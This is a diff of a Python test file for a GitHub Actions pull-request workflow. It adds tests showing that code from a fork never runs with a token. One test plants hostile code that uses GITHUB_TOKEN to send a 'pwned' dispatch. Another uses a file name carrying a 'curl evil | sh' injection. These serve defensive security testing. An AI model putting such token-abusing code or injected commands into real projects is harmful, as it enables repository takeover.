@@ -230,6 +230,77 @@ def pr_body(stub: GitHubStub, payload: dict[str, Any]) -> str | None:
     return pr["body"]
 
 
+ANALYSIS = ".github/workflows/synthforge-pr.yml"
+WRITER = ".github/workflows/synthforge-pr-report.yml"
+
+
+def workflow_run_event(
+    corpus_events: Path, pull_request: dict[str, Any], analysis: ActRun, *, fork: bool
+) -> dict[str, Any]:
+    """The ``workflow_run`` (completed) event GitHub sends when the analysis run ends.
+
+    From the corpus (``events/SOURCES.md``: octokit/webhooks ``workflow_run/completed``
+    payloads), with the fields GitHub sets for this run: its id, ``event``, conclusion,
+    the pull request's head commit and branch, and ``pull_requests`` (empty for a pull
+    request from a fork, as GitHub sends it).
+    """
+    name = "workflow_run.completed" + ("" if fork else ".with-pull-requests") + ".payload.json"
+    event = load_event(corpus_events, name)
+    pr = pull_request["pull_request"]
+    run = event["workflow_run"]
+    repo = pull_request["repository"]
+    run.update(
+        id=analysis.run_id,
+        name="SynthForge pull request",
+        event="pull_request",
+        status="completed",
+        conclusion="success" if analysis.returncode == 0 else "failure",
+        head_sha=pr["head"]["sha"],
+        head_branch=pr["head"]["ref"],
+        html_url=f"https://github.com/{repo['full_name']}/actions/runs/{analysis.run_id}",
+        repository=repo,
+        head_repository=copy.deepcopy(pr["head"]["repo"]),
+    )
+    run["head_repository"]["fork"] = fork
+    if fork:
+        run["pull_requests"] = []
+    else:
+        run["pull_requests"][0].update(number=pr["number"])
+        run["pull_requests"][0]["head"].update(ref=pr["head"]["ref"], sha=pr["head"]["sha"])
+    event["repository"] = repo
+    return event
+
+
+def run_pull_request(
+    harness: ActHarness,
+    stub: GitHubStub,
+    corpus_events: Path,
+    head: Path,
+    default: Path,
+    event: dict[str, Any],
+    *,
+    fork: bool = False,
+) -> tuple[ActRun, ActRun, list[dict[str, Any]], list[dict[str, Any]]]:
+    """The analysis (on the pull request's head) then the writer (on the default branch),
+    as GitHub runs them; with the requests the stand-in answered during each."""
+    before = len(stub.requests())
+    analysis = harness.run(head, "pull_request", ANALYSIS, event)
+    during_analysis = stub.requests()[before:]
+    before = len(stub.requests())
+    writer_event = workflow_run_event(corpus_events, event, analysis, fork=fork)
+    writer = harness.run(default, "workflow_run", WRITER, writer_event)
+    return analysis, writer, during_analysis, stub.requests()[before:]
+
+
+def calls(requests: list[dict[str, Any]]) -> list[str]:
+    return [r["operation"] for r in requests]
+
+
+#: What the writer sends to GitHub: read, write and re-read the body, list the comments,
+#: then create (first run) or update the sticky comment (docs/workflows.md, "Cost").
+WRITER_CALLS = ["pulls/get", "pulls/update", "pulls/get", "issues/list-comments"]
+
+
 def test_pr_workflow_writes_state_and_one_sticky_comment(
     harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
 ) -> None:
@@ -241,12 +312,16 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     original_body = opened["pull_request"]["body"]
     repo_name, number = stub.seed_pull_request(opened)
     diagram = (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
+    default = harness.new_repo("default")
     repo = harness.new_repo("pr", extra_files={"docs/architecture.drawio": diagram})
 
-    run = harness.run(
-        repo, "pull_request", ".github/workflows/synthforge-pr.yml", pr_event(opened, repo)
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, pr_event(opened, repo)
     )
-    assert_ok(run)
+    assert_ok(analysis)
+    assert_ok(writer)
+    assert read_only == [], "the analysis run called GitHub's API"
+    assert calls(written) == [*WRITER_CALLS, "issues/create-comment"]
     body = pr_body(stub, opened)
     assert user_text(body) == original_body
     assert body is not None and body.startswith(original_body)
@@ -255,7 +330,7 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     entry = state["diagrams"]["docs/architecture.drawio"]
     assert entry["status"] == "succeeded" and entry["resources"] > 0
     assert state["head_sha"] == opened["pull_request"]["head"]["sha"]
-    output = run.artifact_file(entry["artifact"], "output.json").read_bytes()
+    output = analysis.artifact_file(entry["artifact"], entry["file"]).read_bytes()
     assert entry["output_sha256"] == hashlib.sha256(output).hexdigest()
     comments = stub.comments(repo_name, number)
     assert len(comments) == 1
@@ -264,8 +339,13 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     # synchronize: the real payload's base commit is not in this clone, so every diagram
     # of the repository is analysed; the same comment is updated, never a second one.
     synchronize = load_event(corpus_events, "pull_request.synchronize.payload.json")
-    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", synchronize)
-    assert_ok(run)
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, synchronize
+    )
+    assert_ok(analysis)
+    assert_ok(writer)
+    assert read_only == []
+    assert calls(written) == [*WRITER_CALLS, "issues/update-comment"]
     tracked = subprocess.run(
         ["git", "ls-files", "--", "*.drawio"], cwd=repo, check=True, capture_output=True, text=True
     ).stdout.split()
@@ -273,11 +353,131 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     assert user_text(body) == original_body
     assert sorted(read_state(body)["synthforge"]["diagrams"]) == sorted(tracked)
     assert "examples/diagrams/webapp.drawio" in tracked
-    # The first run's result cache (actions/cache) was restored for the same artifact name.
-    assert "Cache restored from key: forgeflow-results-synthforge-1-" in run.log, run.explain()
+    # All of them in one analysis job: the matrix has one group.
+    assert analysis.artifact_names() == ["synthforge-group-1", "synthforge-pr"]
+    # The first run's result cache (actions/cache) was restored for the same group.
+    assert "Cache restored from key: forgeflow-results-synthforge-1-" in analysis.log, (
+        analysis.explain()
+    )
     comments_after = stub.comments(repo_name, number)
     assert [c["id"] for c in comments_after] == [comments[0]["id"]]
     assert "examples/diagrams/webapp.drawio" in comments_after[0]["body"]
+
+
+def test_fork_pull_request_is_reported_by_the_default_branchs_code(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
+) -> None:
+    """A pull request from a fork (the real ``pull_request/opened`` payload with
+    ``head.repo.fork: true``) whose head also changes Forgeflow's own code: any process
+    importing its ``orchestration`` with a token at hand sends a ``pwned`` dispatch.
+
+    The analysis runs the head's code with no token and calls no API; the writer, fed
+    the corpus's ``workflow_run`` (completed) payload with ``pull_requests: []`` as GitHub
+    sends it for forks, runs the default branch's code: the stand-in's recorded requests
+    are exactly the documented writes, and no dispatch.
+    """
+    opened = load_event(corpus_events, "pull_request.opened.payload.json")
+    opened["pull_request"]["head"]["repo"]["fork"] = True
+    opened["pull_request"]["head"]["repo"]["full_name"] = "mallory/Hello-World"
+    repo_name, number = stub.seed_pull_request(opened)
+    hostile = (REPO / "orchestration/__init__.py").read_text(encoding="utf-8") + (
+        "\n\nimport json as _j, os as _o, urllib.request as _u\n"
+        "if _o.environ.get('GITHUB_TOKEN'):\n"
+        "    _u.urlopen(_u.Request(\n"
+        "        _o.environ['GITHUB_API_URL'] + '/repos/' + _o.environ['GITHUB_REPOSITORY']\n"
+        "        + '/dispatches', data=_j.dumps({'event_type': 'pwned'}).encode(),\n"
+        "        headers={'Authorization': 'token ' + _o.environ['GITHUB_TOKEN'],\n"
+        "                 'Content-Type': 'application/json'}, method='POST'))\n"
+    )
+    default = harness.new_repo("default")
+    head = harness.new_repo(
+        "fork-head",
+        extra_files={
+            "docs/architecture.drawio": (corpus_diagrams / AZURE_DIAGRAM).read_text("utf-8"),
+            "orchestration/__init__.py": hostile,
+        },
+    )
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, head, default, pr_event(opened, head), fork=True
+    )
+    assert_ok(analysis)
+    assert_ok(writer)
+    assert read_only == [], "the analysis run called GitHub's API"
+    assert calls(written) == [*WRITER_CALLS, "issues/create-comment"], calls(written)
+    assert stub.dispatches() == [], "the writer ran the pull request's code"
+    # The pull request written to came from the artifact (the event names none for a
+    # fork) and was checked against the event's head commit.
+    assert written[0]["path"].endswith(f"/pulls/{number}")
+    body = pr_body(stub, opened)
+    assert user_text(body) == opened["pull_request"]["body"]
+    state = read_state(body)["synthforge"]
+    assert state["diagrams"]["docs/architecture.drawio"]["status"] == "succeeded"
+    (comment,) = stub.comments(repo_name, number)
+    assert comment["body"].startswith("<!-- forgeflow:sticky key=synthforge-report -->")
+    assert "docs/architecture.drawio" in comment["body"]
+    assert comment["user"]["login"] == "github-actions[bot]"
+
+
+def test_a_failed_plan_gives_one_annotation_and_no_report(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path
+) -> None:
+    """A pull request whose base commit is not a commit id (``pull_request/opened``,
+    ``events/SOURCES.md``, with a hostile ``base.sha``): the plan job fails with one error
+    annotation; nothing runs after it and nothing crashes; the writer finds nothing to
+    report and writes nothing."""
+    payload = load_event(corpus_events, "pull_request.opened.payload.json")
+    stub.seed_pull_request(payload)
+    default = harness.new_repo("default")
+    repo = harness.new_repo(
+        "pr-bad-base",
+        extra_files={"docs/a.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()},
+    )
+    event = pr_event(payload, repo)
+    event["pull_request"]["base"]["sha"] = HOSTILE
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, event
+    )
+    assert analysis.returncode != 0, analysis.explain()
+    errors = [line for line in analysis.log.splitlines() if "::error" in line]
+    assert len(errors) == 1, errors
+    assert "is not a commit id" in errors[0]
+    assert "Traceback" not in analysis.log + writer.log
+    assert analysis.artifact_names() == []
+    assert_ok(writer)
+    assert "nothing to report" in writer.log
+    assert read_only == written == []
+
+
+def test_a_diagram_that_fails_is_annotated_on_its_file(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path
+) -> None:
+    """A pull request adding a good diagram and a broken one (not XML): one
+    ``::error file=…`` annotation on the broken diagram, the good one still analysed, and
+    the report says which failed."""
+    payload = load_event(corpus_events, "pull_request.opened.payload.json")
+    repo_name, number = stub.seed_pull_request(payload)
+    default = harness.new_repo("default")
+    repo = harness.new_repo(
+        "pr-broken",
+        extra_files={
+            "docs/good.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text(),
+            "docs/broken.drawio": "<mxfile><diagram>not a graph",
+        },
+    )
+    analysis, writer, read_only, written = run_pull_request(
+        harness, stub, corpus_events, repo, default, pr_event(payload, repo)
+    )
+    assert analysis.returncode != 0, analysis.explain()
+    errors = [line for line in analysis.log.splitlines() if "::error" in line]
+    assert len(errors) == 1, errors
+    assert "::error file=docs/broken.drawio," in errors[0]
+    assert "Traceback" not in analysis.log + writer.log
+    assert writer.returncode != 0, writer.explain()  # the report says an analysis failed
+    state = read_state(pr_body(stub, payload))["synthforge"]["diagrams"]
+    assert state["docs/good.drawio"]["status"] == "succeeded"
+    assert state["docs/broken.drawio"]["status"] != "succeeded"
+    (comment,) = stub.comments(repo_name, number)
+    assert "1 failed" in comment["body"]
 
 
 def test_pr_workflow_on_a_pull_request_without_body(
@@ -289,16 +489,18 @@ def test_pr_workflow_on_a_pull_request_without_body(
     payload = load_event(corpus_events, "pull_request.opened.with-null-body.json")
     assert payload["pull_request"]["body"] is None
     stub.seed_pull_request(payload)
+    default = harness.new_repo("default")
     repo = harness.new_repo(
         "pr-null",
         extra_files={
             "diagrams/copy.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()
         },
     )
-    run = harness.run(
-        repo, "pull_request", ".github/workflows/synthforge-pr.yml", pr_event(payload, repo)
+    analysis, writer, _, _ = run_pull_request(
+        harness, stub, corpus_events, repo, default, pr_event(payload, repo)
     )
-    assert_ok(run)
+    assert_ok(analysis)
+    assert_ok(writer)
     body = pr_body(stub, payload)
     assert user_text(body) == ""
     assert list(read_state(body)["synthforge"]["diagrams"]) == ["diagrams/copy.drawio"]
@@ -325,12 +527,14 @@ def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
     )
     stub.seed_pull_request(payload, body=body, title=title)
     name = f'docs/"; curl evil | sh; #$(touch {canary.name}).drawio'
+    default = harness.new_repo("default")
     repo = harness.new_repo(
         "pr-hostile", extra_files={name: (REPO / "examples/diagrams/webapp.drawio").read_text()}
     )
     event = pr_event(payload, repo, title=title, body=body, head__ref=branch)
-    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", event)
-    assert_ok(run)
+    analysis, writer, _, _ = run_pull_request(harness, stub, corpus_events, repo, default, event)
+    assert_ok(analysis)
+    assert_ok(writer)
     after = pr_body(stub, payload)
     assert user_text(after) == body
     assert after is not None and after.startswith(body)
